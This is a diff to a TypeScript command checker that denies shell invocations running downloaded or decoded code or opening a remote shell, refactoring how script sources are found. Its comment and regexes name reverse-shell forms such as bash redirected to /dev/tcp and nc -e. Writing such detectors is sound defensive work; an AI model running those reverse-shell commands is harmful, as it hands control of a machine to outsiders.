@@ -1,6 +1,6 @@
 import { type Finding, quoted, short } from "../lib/findings.ts";
 import { resolvePath } from "../lib/paths.ts";
-import { inlineProgram, languageOf, shellCall } from "../lib/programs.ts";
+import { inlineProgram, isShell, languageOf, type ShellCall, shellCall } from "../lib/programs.ts";
 import { TAINTED, UNKNOWN } from "../lib/marks.ts";
 import type { Invocation } from "../lib/commands.ts";
 
@@ -9,9 +9,9 @@ const unseen = "runs unseen code: it was downloaded or decoded in the same comma
 /** Code that a command runs and that is not in the command line. */
 export function foreignCode(invocation: Invocation, downloads: ReadonlySet<string>): Finding | undefined {
   const { name, program, args, cwd } = invocation;
-  const deny: Finding = { verdict: "deny", reason: `${quoted(invocation)} ${unseen}` };
-  if (program.includes(TAINTED)) return deny;
-  if (downloads.has(resolvePath(program, cwd)) && program.includes("/")) return deny;
+  const deny = (): Finding => ({ verdict: "deny", reason: `${quoted(invocation)} ${unseen}` });
+  if (program.includes(TAINTED)) return deny();
+  if (program.includes("/") && downloads.has(resolvePath(program, cwd))) return deny();
   if (isRemoteShell(invocation))
     return { verdict: "deny", reason: `${quoted(invocation)} hands a shell to another machine` };
   const code = codeOf(invocation);
@@ -19,9 +19,9 @@ export function foreignCode(invocation: Invocation, downloads: ReadonlySet<strin
     return { verdict: "ask", reason: `${quoted(invocation)} runs code that its text does not show` };
   if (code === undefined) return undefined;
   if (code.kind === "file")
-    return code.text.includes(TAINTED) || downloads.has(resolvePath(code.text, cwd)) ? deny : undefined;
+    return code.text.includes(TAINTED) || downloads.has(resolvePath(code.text, cwd)) ? deny() : undefined;
   if (code.kind === "text") {
-    if (code.text.includes(TAINTED)) return deny;
+    if (code.text.includes(TAINTED)) return deny();
     if (!code.text.trimStart().startsWith(UNKNOWN)) return undefined;
     return {
       verdict: "ask",
@@ -29,7 +29,7 @@ export function foreignCode(invocation: Invocation, downloads: ReadonlySet<strin
     };
   }
   const from = invocation.input?.from ?? [];
-  if (from.some(({ external }) => external)) return deny;
+  if (from.some(({ external }) => external)) return deny();
   if (invocation.input === undefined || invocation.input.text !== undefined) return undefined;
   if (from.length === 1 && from[0]?.name === "cat") return undefined;
   return {
@@ -49,11 +49,7 @@ function codeOf(invocation: Invocation): Code | undefined {
   if (name === "eval") return { kind: "text", text: args.join(" ") };
   if (name === "source" || name === ".") return { kind: "file", text: args[0] ?? "" };
   const shell = shellCall(invocation);
-  if (shell?.code !== undefined) return { kind: "text", text: shell.code };
-  const file = invocation.redirects.find(({ operator }) => operator === "<")?.target;
-  if (shell !== undefined && shell.script === undefined && file !== undefined)
-    return { kind: "file", text: file };
-  if (shell !== undefined) return shell.script === undefined ? input : { kind: "file", text: shell.script };
+  if (shell !== undefined) return shellCodeOf(shell, invocation);
   if (languageOf(name) === undefined) return undefined;
   const inline = inlineProgram(invocation);
   if (inline !== undefined) return inline.includes(TAINTED) ? { kind: "text", text: inline } : undefined;
@@ -62,13 +58,18 @@ function codeOf(invocation: Invocation): Code | undefined {
   return script === undefined || script === "-" ? input : { kind: "file", text: script };
 }
 
+function shellCodeOf({ code, script }: ShellCall, { redirects }: Invocation): Code {
+  if (code !== undefined) return { kind: "text", text: code };
+  const file = script ?? redirects.find(({ operator }) => operator === "<")?.target;
+  return file === undefined ? input : { kind: "file", text: file };
+}
+
 const input: Code = { kind: "input", text: "" };
 
 /** `bash >& /dev/tcp/host/port`, `nc -e sh host port` */
 function isRemoteShell(invocation: Invocation): boolean {
   const { name, args, redirects } = invocation;
-  if (shellCall(invocation) !== undefined)
-    return redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target));
+  if (isShell(name)) return redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target));
   return (
     /^(?:nc|ncat|netcat)(?:\.\w+)?$/.test(name) &&
     args.some((arg) => /^(?:-[a-z]*[ec]|--(?:exec|sh-exec|lua-exec)(?:=.*)?)$/.test(arg))
